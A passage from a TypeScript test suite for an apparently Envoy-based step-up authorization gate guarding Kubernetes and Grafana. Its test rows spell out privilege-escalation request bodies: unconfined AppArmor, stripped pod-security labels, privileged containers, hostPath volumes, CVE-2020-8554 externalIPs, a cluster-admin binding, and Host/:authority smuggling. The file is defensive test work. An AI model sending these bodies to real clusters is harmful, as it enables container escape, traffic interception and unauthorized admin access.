    expect(reasonOf(await freshSend('aal2', 2, method, path, headers, body))).toBe('allowed');
  });
});

// Bodies the example's guardrails step up, written through patch shapes that show only part of the
// object, in a namespace no rule covers (so only the guardrail can stop them). Each row uses a fresh
// subject and asserts the guardrail by name, so a row cannot pass on the denial-rate signal.
const JPATCH = { 'content-type': 'application/json-patch+json' };
const MERGE = { 'content-type': 'application/merge-patch+json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const APPLY = { 'content-type': 'application/apply-patch+yaml' };
const DEPLOY = '/apis/apps/v1/namespaces/dev/deployments/web';
const NS = '/api/v1/namespaces/dev';
const APPARMOR = 'container.apparmor.security.beta.kubernetes.io/app';
const ENFORCE = 'pod-security.kubernetes.io/enforce';

const BODIES: [name: string, method: string, path: string, headers: Record<string, string>, body: string, code: string][] = [
  ['template annotation only, merge patch', 'PATCH', DEPLOY, MERGE, JSON.stringify({ spec: { template: { metadata: { annotations: { [APPARMOR]: 'unconfined' } } } } }), 'apparmor_unconfined'],
  ['template annotation only, strategic merge patch', 'PATCH', DEPLOY, SMP, JSON.stringify({ spec: { template: { metadata: { annotations: { [APPARMOR]: 'unconfined' } } } } }), 'apparmor_unconfined'],
  ['template annotation only, JSON patch', 'PATCH', DEPLOY, JPATCH, JSON.stringify([{ op: 'add', path: `/spec/template/metadata/annotations/${APPARMOR.replace('/', '~1')}`, value: 'unconfined' }]), 'apparmor_unconfined'],
  ['template annotation only, server-side apply', 'PATCH', `${DEPLOY}?fieldManager=x`, APPLY, `apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec:\n  template:\n    metadata:\n      annotations: {"${APPARMOR}": unconfined}\n`, 'apparmor_unconfined'],
  ['CronJob job template annotation only', 'PATCH', '/apis/batch/v1/namespaces/dev/cronjobs/nightly', MERGE, JSON.stringify({ spec: { jobTemplate: { spec: { template: { metadata: { annotations: { [APPARMOR]: 'unconfined' } } } } } } }), 'apparmor_unconfined'],
  ['Namespace labels replaced by a JSON patch add', 'PATCH', NS, JPATCH, JSON.stringify([{ op: 'add', path: '/metadata/labels', value: { team: 'x' } }]), 'pod_security_weakened'],
  ['Namespace labels replaced by a JSON patch replace', 'PATCH', NS, JPATCH, JSON.stringify([{ op: 'replace', path: '/metadata/labels', value: {} }]), 'pod_security_weakened'],
  ['Namespace metadata replaced by a JSON patch', 'PATCH', NS, JPATCH, JSON.stringify([{ op: 'replace', path: '/metadata', value: { name: 'dev' } }]), 'pod_security_weakened'],
  ['Namespace replaced whole by a JSON patch', 'PATCH', NS, JPATCH, JSON.stringify([{ op: 'replace', path: '', value: { apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'dev' } } }]), 'pod_security_weakened'],
  ['Namespace labels cut by $retainKeys', 'PATCH', NS, SMP, JSON.stringify({ metadata: { labels: { $retainKeys: ['team'], team: 'x' } } }), 'pod_security_weakened'],
  ['Namespace metadata cut by $retainKeys', 'PATCH', NS, SMP, JSON.stringify({ metadata: { $retainKeys: ['name'], name: 'dev' } }), 'pod_security_weakened'],
  ['Namespace replaced whole by $patch: replace', 'PATCH', NS, SMP, JSON.stringify({ $patch: 'replace', metadata: { name: 'dev' } }), 'pod_security_weakened'],
  // The status and finalize subresources of a Namespace reset only its status or spec: labels change through them.
  ['Namespace label set through namespaces/status', 'PATCH', `${NS}/status`, MERGE, JSON.stringify({ metadata: { labels: { [ENFORCE]: 'privileged' } } }), 'pod_security_weakened'],
  ['Namespace label dropped through namespaces/finalize', 'PUT', `${NS}/finalize`, { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'dev' }, spec: { finalizers: [] } }), 'pod_security_weakened'],
  // A Binding's annotations are merged into the pod it schedules, without the pod update's validation.
  ['AppArmor unconfined through pods/binding', 'POST', '/api/v1/namespaces/dev/pods/web-0/binding', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Binding', metadata: { name: 'web-0', annotations: { [APPARMOR]: 'unconfined' } }, target: { kind: 'Node', name: 'worker-1' } }), 'apparmor_unconfined'],
  ['AppArmor unconfined through the legacy bindings resource', 'POST', '/api/v1/namespaces/dev/bindings', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Binding', metadata: { name: 'web-0', annotations: { [APPARMOR]: 'unconfined' } }, target: { kind: 'Node', name: 'worker-1' } }), 'apparmor_unconfined'],
  // kube's strategic merge applies a $deleteFromPrimitiveList/<field> whose value is a map, or a list of maps, as data: merged into <field>.
  ['privileged container through $deleteFromPrimitiveList/containers', 'PATCH', DEPLOY, SMP, JSON.stringify({ spec: { template: { spec: { '$deleteFromPrimitiveList/containers': [{ name: 'app', securityContext: { privileged: true } }] } } } }), 'body_unreadable'],
  ['host process through $deleteFromPrimitiveList/securityContext', 'PATCH', DEPLOY, SMP, JSON.stringify({ spec: { template: { spec: { '$deleteFromPrimitiveList/securityContext': { windowsOptions: { hostProcess: true } } } } } }), 'body_unreadable'],
  ['privileged container, JSON patch', 'PATCH', DEPLOY, JPATCH, JSON.stringify([{ op: 'add', path: '/spec/template/spec/containers/0/securityContext/privileged', value: true }]), 'privileged_container'],
  ['hostPath volume, strategic merge patch with $retainKeys', 'PATCH', DEPLOY, SMP, JSON.stringify({ spec: { template: { spec: { volumes: [{ name: 'v', $retainKeys: ['hostPath', 'name'], hostPath: { path: '/' } }] } } } }), 'host_path_volume'],
  // CVE-2020-8554: a Service's externalIPs, or its load balancer's IP written through services/status,
  // make kube-proxy on every node send traffic for that address to the Service's pods.
  ['Service with externalIPs', 'POST', '/api/v1/namespaces/dev/services', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'mitm' }, spec: { selector: { app: 'mitm' }, ports: [{ port: 443 }], externalIPs: ['169.254.169.254'] } }), 'service_external_ip'],
  ['externalIPs added by a JSON patch', 'PATCH', '/api/v1/namespaces/dev/services/web', JPATCH, JSON.stringify([{ op: 'add', path: '/spec/externalIPs', value: ['10.96.0.10'] }]), 'service_external_ip'],
  ['externalIPs added by kubectl apply (strategic merge)', 'PATCH', '/api/v1/namespaces/dev/services/web', SMP, JSON.stringify({ spec: { externalIPs: ['203.0.113.7'] } }), 'service_external_ip'],
  ['a load balancer IP written through services/status', 'PATCH', '/api/v1/namespaces/dev/services/web/status', MERGE, JSON.stringify({ status: { loadBalancer: { ingress: [{ ip: '203.0.113.7' }] } } }), 'service_external_ip'],
  // A PersistentVolume backed by a node directory: the pod that claims it has only a
  // persistentVolumeClaim volume, so this is the pod guardrail's hostPath one step removed.
  ['PersistentVolume with hostPath /', 'POST', '/api/v1/persistentvolumes', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'PersistentVolume', metadata: { name: 'scratch' }, spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/' }, claimRef: { namespace: 'dev', name: 'scratch' } } }), 'host_path_volume'],
  ['PersistentVolume with a local volume at /var/lib/kubelet, server-side apply', 'PATCH', '/api/v1/persistentvolumes/scratch?fieldManager=x', APPLY, 'apiVersion: v1\nkind: PersistentVolume\nmetadata: {name: scratch}\nspec:\n  capacity: {storage: 1Gi}\n  accessModes: [ReadWriteOnce]\n  local: {path: /var/lib/kubelet}\n  nodeAffinity: {required: {nodeSelectorTerms: [{matchExpressions: [{key: kubernetes.io/hostname, operator: In, values: [worker-1]}]}]}}\n', 'host_path_volume'],
  ['privileged debug container', 'PATCH', '/api/v1/namespaces/dev/pods/web-0/ephemeralcontainers', SMP, JSON.stringify({ spec: { ephemeralContainers: [{ name: 'd', image: 'busybox:1', securityContext: { privileged: true } }] } }), 'privileged_container'],
];

describe('examples/stepgate.yaml: guardrail bodies in partial shapes, with the same stolen token', () => {
  let n = 0;
  it.each(BODIES)('%s: stepped up by the guardrail', async (_name, method, path, headers, body, code) => {
    const as = await weak(`body-${n++}@example.com`);
    const res = await client.check(checkRequest({ host: 'kube.localhost', method, path, token: as, source: '10.20.4.17', body, headers: { 'user-agent': 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1', 'x-envoy-auth-partial-body': 'false', ...headers } }));
    expect(reasonOf(res)).not.toBe('allowed');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain(`guardrail:${code}`);
  });

  it.each<[string, string, string, Record<string, string>, string]>([
    ['kubectl label ns (merge patch)', 'PATCH', NS, MERGE, JSON.stringify({ metadata: { labels: { team: 'x' } } })],
    ['a label added by a JSON patch', 'PATCH', NS, JPATCH, JSON.stringify([{ op: 'add', path: '/metadata/labels/team', value: 'x' }])],
    ['labels replaced, enforce kept', 'PATCH', NS, JPATCH, JSON.stringify([{ op: 'replace', path: '/metadata/labels', value: { team: 'x', [ENFORCE]: 'baseline' } }])],
    ['kubectl rollout restart (template annotation)', 'PATCH', DEPLOY, SMP, JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-12-03T08:00:00Z' } } } } })],
    ['kubectl apply (client-side) dropping a finalizer and setting an image', 'PATCH', DEPLOY, SMP, JSON.stringify({ metadata: { '$deleteFromPrimitiveList/finalizers': ['example.com/x'] }, spec: { template: { spec: { '$setElementOrder/containers': [{ name: 'app' }], containers: [{ name: 'app', image: 'registry.example.com/app:1.4.2' }] } } } })],
    ['a stuck Namespace finalized with its labels kept', 'PUT', `${NS}/finalize`, { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'dev', labels: { [ENFORCE]: 'baseline' } }, spec: { finalizers: [] } })],
    // A Binding is no control since session 43: the scheduler writes them inside the cluster and a
    // custom scheduler is automation, so a person's Binding, kube-system's included, is asked what
    // cluster-control asks (pod-bindings; attack-session43-kube).
    ['a ClusterIP Service (kubectl expose)', 'POST', '/api/v1/namespaces/dev/services', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'web' }, spec: { selector: { app: 'web' }, ports: [{ port: 80, targetPort: 8080 }] } })],
    ['a LoadBalancer Service (the cloud assigns the address)', 'POST', '/api/v1/namespaces/dev/services', { 'content-type': 'application/json' }, JSON.stringify({ apiVersion: 'v1', kind: 'Service', metadata: { name: 'edge' }, spec: { type: 'LoadBalancer', selector: { app: 'edge' }, ports: [{ port: 443 }] } })],
    ['AppArmor runtime/default by annotation', 'PATCH', DEPLOY, MERGE, JSON.stringify({ spec: { template: { metadata: { annotations: { [APPARMOR]: 'runtime/default' } } } } })],
  ])('controls: %s is allowed', async (_name, method, path, headers, body) => {
    const as = await weak(`control-${n++}@example.com`);
    const res = await client.check(checkRequest({ host: 'kube.localhost', method, path, token: as, source: '10.20.4.17', body, headers: { 'user-agent': 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1', 'x-envoy-auth-partial-body': 'false', ...headers } }));
    expect(reasonOf(res)).toBe('allowed');
  });
});

// A binding's role is immutable and is not in a patch that adds subjects; the role may be
// cluster-admin, so the patch is judged as a cluster-admin binding (the strongest level within
// 5 minutes), not only as an ordinary RBAC write (within the hour at a quiet risk band). The
// rows assert the guardrail by name: a fresh subject's risk band alone already shortens max_age.
describe('examples/stepgate.yaml: subjects added to a binding whose role the patch does not show', () => {
  const hour = (sub: string) => issuer.token({ sub, email: sub, acr: 'urn:stepgate:aal3', amr: ['hwk'], auth_time: Math.floor(Date.now() / 1000) - 40 * 60 });
  const CRB = '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/cluster-admin';
  const subject = { kind: 'User', apiGroup: 'rbac.authorization.k8s.io', name: 'mallory@example.com' };
  let n = 0;
  it.each<[string, Record<string, string>, string]>([
    ['merge patch', MERGE, JSON.stringify({ subjects: [subject] })],
    ['strategic merge patch', SMP, JSON.stringify({ subjects: [subject] })],
    ['JSON patch add', JPATCH, JSON.stringify([{ op: 'add', path: '/subjects/-', value: subject }])],
  ])('%s: stepped up by rbac_cluster_admin_binding', async (_name, headers, body) => {
    const as = await hour(`rbac-${n++}@example.com`);
    const res = await client.check(checkRequest({ host: 'kube.localhost', method: 'PATCH', path: CRB, token: as, source: '10.20.4.17', body, headers: { 'user-agent': 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1', 'x-envoy-auth-partial-body': 'false', ...headers } }));
    expect(reasonOf(res)).toBe('auth_too_old');
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').toContain('guardrail:rbac_cluster_admin_binding');
  });

  it('control: a patch of a binding\'s labels is no cluster-admin binding', async () => {
    const as = await hour(`rbac-${n++}@example.com`);
    const res = await client.check(checkRequest({ host: 'kube.localhost', method: 'PATCH', path: CRB, token: as, source: '10.20.4.17', body: JSON.stringify({ metadata: { labels: { team: 'platform' } } }), headers: { 'user-agent': 'kubectl/v1.32.4 (linux/amd64) kubernetes/5f8c2b1', 'x-envoy-auth-partial-body': 'false', ...MERGE } }));
    expect(res.dynamic_metadata?.fields.rules?.stringValue ?? '').not.toContain('guardrail:');
  });
});

// The host and the request line as the CheckRequest states them twice: Envoy fills
// attributes.request.http's method, path and host from the pseudo-headers it also lists in
// `headers`, so a Check where they disagree was not built from one request, and a `host` header
// beside `:authority` (HTTP/2, Envoy before 1.27.4 or with http2_discard_host_header off) may be
// what the upstream routes on. An absolute-form target names its own host, which Envoy, nginx and
// Go route by. A fresh subject per row, so each answer is the request's and not the denial rate's.
describe('examples/stepgate.yaml: the host and the request line, stated twice', () => {
  let n = 0;
  const twice = async (spec: { host?: string; method?: string; path: string; headers?: Record<string, string> }) => {
    const as = await weak(`twice-${n++}@example.com`);
    return reasonOf(await client.check(checkRequest({ host: spec.host ?? 'grafana.localhost', method: spec.method ?? 'GET', path: spec.path, token: as, source: '10.20.4.17', headers: { ...BROWSER, ...spec.headers } })));
  };

  it('a host header naming the dashboard beside another :authority, with http.host empty, is refused', async () => {
    const as = await weak(`twice-${n++}@example.com`);
    const req = checkRequest({ host: 'public.localhost', path: '/admin/users', token: as, source: '10.20.4.17', headers: { ...BROWSER, host: 'grafana.localhost' } });
    req.attributes.request.http.host = '';
    expect(reasonOf(await client.check(req))).toBe('request_invalid');
  });

  it.each<[string, { host?: string; method?: string; path: string; headers?: Record<string, string> }]>([
    ['a host header naming the dashboard beside another :authority', { host: 'public.localhost', path: '/admin/users', headers: { host: 'grafana.localhost' } }],
    [':authority naming the dashboard, http.host another', { host: 'public.localhost', path: '/admin/users', headers: { ':authority': 'grafana.localhost' } }],
    [':path naming the admin page, http.path a public one', { path: '/public/build/app.js', headers: { ':path': '/admin/users' } }],
    [':method DELETE, http.method GET', { path: '/api/dashboards/uid/x', headers: { ':method': 'DELETE' } }],
    ['an absolute-form target naming the dashboard, sent to another host', { host: 'public.localhost', path: 'http://grafana.localhost/admin/users' }],
    ['an absolute-form target with userinfo', { path: 'http://x@grafana.localhost/admin/users' }],
    ['a host with an empty label', { host: 'grafana.localhost..', path: '/admin/users' }],
    ['a host with a leading dot', { host: '.grafana.localhost', path: '/admin/users' }],
  ])('%s is refused', async (_what, spec) => {
    expect(await twice(spec)).toBe('request_invalid');
  });

  it.each<[string, { host?: string; method?: string; path: string; headers?: Record<string, string> }]>([
    ['a host header with a port beside :authority without one', { path: '/admin/users', headers: { host: 'grafana.localhost:443' } }],
    ['an absolute-form target naming the same host', { path: 'https://GRAFANA.localhost:443/admin/users' }],
    ['the root dot', { host: 'grafana.localhost.', path: '/admin/users' }],
  ])('controls: %s is read (and asked for the step-up)', async (_what, spec) => {
    expect(await twice(spec)).toBe('acr_insufficient');
  });
});
